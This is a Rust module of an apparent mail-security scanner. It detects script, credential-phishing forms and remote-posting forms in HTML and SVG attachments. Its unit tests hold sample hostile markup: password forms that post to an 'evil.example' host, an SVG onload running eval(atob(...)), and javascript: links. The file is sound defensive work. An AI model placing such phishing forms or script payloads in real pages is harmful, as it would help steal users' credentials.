//! HTML and SVG attachments: script (a `<script>` element, an `on…=` event handler, a
//! `javascript:` link) and forms that collect a password or post to a server. An HTML
//! file opened from a mail runs its script locally, out of reach of the mail filter's URL
//! checks; a local page with a password box is a credential-phishing kit.
//!
//! A light tag reader, not a full HTML parser: tags are found by `<name`, their attributes
//! read up to `>`, each tag within a bounded length.

use memchr::memchr;

use super::Location;
use crate::risk::{Category, Evidence};

/// Bytes of one tag read for attributes; longer tags are read this far.
const MAX_TAG: usize = 8192;
/// Characters of a form's action quoted in a detail.
const ACTION_SHOWN: usize = 100;

#[derive(Debug, Default, PartialEq, Eq)]
struct Seen {
    /// The first sign of script: `<script>`, `onload=`, `javascript:`.
    script: Option<&'static str>,
    password_input: bool,
    /// The first form action that is an absolute URL.
    remote_action: Option<String>,
}

/// HTML attachment rules: `file.html_script`, `file.html_credential_form`,
/// `file.html_remote_form`.
pub fn check_html(at: &Location, data: &[u8], out: &mut Vec<Evidence>) {
    let seen = read_tags(data);
    if let Some(sign) = seen.script {
        out.push(Evidence::raise(
            Category::PossibleDangerousFile,
            "file.html_script",
            format!("{at}: HTML attachment with script ({sign})"),
        ));
    }
    forms(at, &seen, out);
}

/// SVG attachment rules: `file.svg_script` (an image has no business running script), and
/// the form rules for HTML embedded in it.
pub fn check_svg(at: &Location, data: &[u8], out: &mut Vec<Evidence>) {
    let seen = read_tags(data);
    if let Some(sign) = seen.script {
        out.push(Evidence::raise(
            Category::DangerousFile,
            "file.svg_script",
            format!("{at}: SVG image with script ({sign})"),
        ));
    }
    forms(at, &seen, out);
}

fn forms(at: &Location, seen: &Seen, out: &mut Vec<Evidence>) {
    if seen.password_input {
        let posting = match &seen.remote_action {
            Some(action) => format!(", posting to {action:?}"),
            None => String::new(),
        };
        out.push(Evidence::raise(
            Category::DangerousFile,
            "file.html_credential_form",
            format!("{at}: local page asking for a password{posting}"),
        ));
    } else if let Some(action) = &seen.remote_action {
        out.push(Evidence::raise(
            Category::PossibleDangerousFile,
            "file.html_remote_form",
            format!("{at}: local page with a form posting to {action:?}"),
        ));
    }
}

fn read_tags(data: &[u8]) -> Seen {
    let mut seen = Seen::default();
    let mut i = 0;
    while let Some(n) = memchr(b'<', &data[i..]) {
        let start = i + n + 1;
        let name_end = data[start..]
            .iter()
            .position(|b| !b.is_ascii_alphanumeric() && *b != b'-' && *b != b':')
            .map_or(data.len(), |p| start + p);
        let name = data[start..name_end].to_ascii_lowercase();
        let tag_end = memchr(b'>', &data[name_end..data.len().min(name_end + MAX_TAG)])
            .map_or(data.len().min(name_end + MAX_TAG), |p| name_end + p);
        if !name.is_empty() {
            tag(&name, &attributes(&data[name_end..tag_end]), &mut seen);
        }
        i = tag_end.max(start);
    }
    seen
}

fn tag(name: &[u8], attributes: &[(Vec<u8>, Vec<u8>)], seen: &mut Seen) {
    if name == b"script" {
        seen.script.get_or_insert("<script>");
    }
    for (key, value) in attributes {
        if key.len() > 2 && key.starts_with(b"on") && key.iter().all(u8::is_ascii_lowercase) {
            seen.script.get_or_insert("an on… event handler");
        }
        let lower = value.trim_ascii_start().to_ascii_lowercase();
        if lower.starts_with(b"javascript:")
            && matches!(&key[..], b"href" | b"xlink:href" | b"src" | b"action")
        {
            seen.script.get_or_insert("a javascript: link");
        }
        match (name, &key[..]) {
            (b"input", b"type") if lower.trim_ascii() == b"password" => seen.password_input = true,
            (b"form", b"action") if is_absolute_url(&lower) && seen.remote_action.is_none() => {
                let action: String = String::from_utf8_lossy(value.trim_ascii())
                    .chars()
                    .take(ACTION_SHOWN)
                    .collect();
                seen.remote_action = Some(action);
            }
            _ => {}
        }
    }
}

fn is_absolute_url(lower: &[u8]) -> bool {
    let url = lower.trim_ascii();
    url.starts_with(b"http://") || url.starts_with(b"https://") || url.starts_with(b"//")
}

/// A tag's attributes after its name: lower-case names, values unquoted.
fn attributes(tag: &[u8]) -> Vec<(Vec<u8>, Vec<u8>)> {
    let mut out = Vec::new();
    let mut i = 0;
    let is_space = |b: u8| b.is_ascii_whitespace() || b == b'/';
    while i < tag.len() {
        while i < tag.len() && is_space(tag[i]) {
            i += 1;
        }
        let key_start = i;
        while i < tag.len() && !is_space(tag[i]) && tag[i] != b'=' {
            i += 1;
        }
        let key = tag[key_start..i].to_ascii_lowercase();
        while i < tag.len() && tag[i].is_ascii_whitespace() {
            i += 1;
        }
        let mut value = Vec::new();
        if tag.get(i) == Some(&b'=') {
            i += 1;
            while i < tag.len() && tag[i].is_ascii_whitespace() {
                i += 1;
            }
            let (end, skip) = match tag.get(i) {
                Some(&q @ (b'"' | b'\'')) => {
                    i += 1;
                    (memchr(q, &tag[i..]).map_or(tag.len(), |p| i + p), 1)
                }
                _ => (
                    tag[i..]
                        .iter()
                        .position(|b| b.is_ascii_whitespace())
                        .map_or(tag.len(), |p| i + p),
                    0,
                ),
            };
            value = tag[i..end].to_vec();
            i = end + skip;
        }
        if !key.is_empty() {
            out.push((key, value));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html_rules(html: &str) -> Vec<&'static str> {
        let mut out = Vec::new();
        check_html(&Location::named("2", "a.html"), html.as_bytes(), &mut out);
        out.iter().map(|e| e.rule).collect()
    }

    fn svg_rules(svg: &str) -> Vec<&'static str> {
        let mut out = Vec::new();
        check_svg(&Location::named("2", "a.svg"), svg.as_bytes(), &mut out);
        out.iter().map(|e| e.rule).collect()
    }

    #[test]
    fn script_and_forms() {
        assert_eq!(
            html_rules("<html><SCRIPT>location='x'</SCRIPT>"),
            vec!["file.html_script"]
        );
        assert_eq!(
            html_rules("<body onload=\"go()\">"),
            vec!["file.html_script"]
        );
        assert_eq!(
            html_rules(
                "<form action='https://evil.example/p.php' method=post>\
                        <input type = 'PassWord' name=p></form>"
            ),
            vec!["file.html_credential_form"]
        );
        assert_eq!(
            html_rules("<input type=password>"),
            vec!["file.html_credential_form"]
        );
        assert_eq!(
            html_rules("<form action=\"//evil.example/x\"><input type=email></form>"),
            vec!["file.html_remote_form"]
        );
        let mut out = Vec::new();
        check_html(
            &Location::named("2", "a.html"),
            b"<form action=https://evil.example/a><input type=password>",
            &mut out,
        );
        assert!(
            out[0].detail.contains("\"https://evil.example/a\""),
            "{}",
            out[0].detail
        );
    }

    #[test]
    fn html_near_misses() {
        // Text about script, a local form, a password *text* input, a description attribute.
        assert!(html_rules(
            "<html><p>Do not run &lt;script&gt; or type your password.</p>\
             <form action=\"#\"><input type=text name=password></form>\
             <div data-onload=x title=\"onload=\">javascript: is a scheme</div>\
             <scripts></scripts><noscript>x</noscript></html>"
        )
        .is_empty());
    }

    #[test]
    fn svg_script() {
        assert_eq!(
            svg_rules("<svg><script>alert(1)</script></svg>"),
            vec!["file.svg_script"]
        );
        assert_eq!(
            svg_rules("<svg onload=\"eval(atob('x'))\"/>"),
            vec!["file.svg_script"]
        );
        assert_eq!(
            svg_rules("<svg><a xlink:href=\" JavaScript:alert(1)\"><text>x</text></a></svg>"),
            vec!["file.svg_script"]
        );
        assert!(svg_rules("<svg><a href=\"https://example.com\"><rect/></a></svg>").is_empty());
    }

    #[test]
    fn unterminated_markup() {
        for s in [
            "<",
            "<a",
            "<a b",
            "<a b=",
            "<a b='",
            "<a b=\"x",
            "<<<<",
            "<form action=",
        ] {
            let _ = html_rules(s);
        }
    }
}
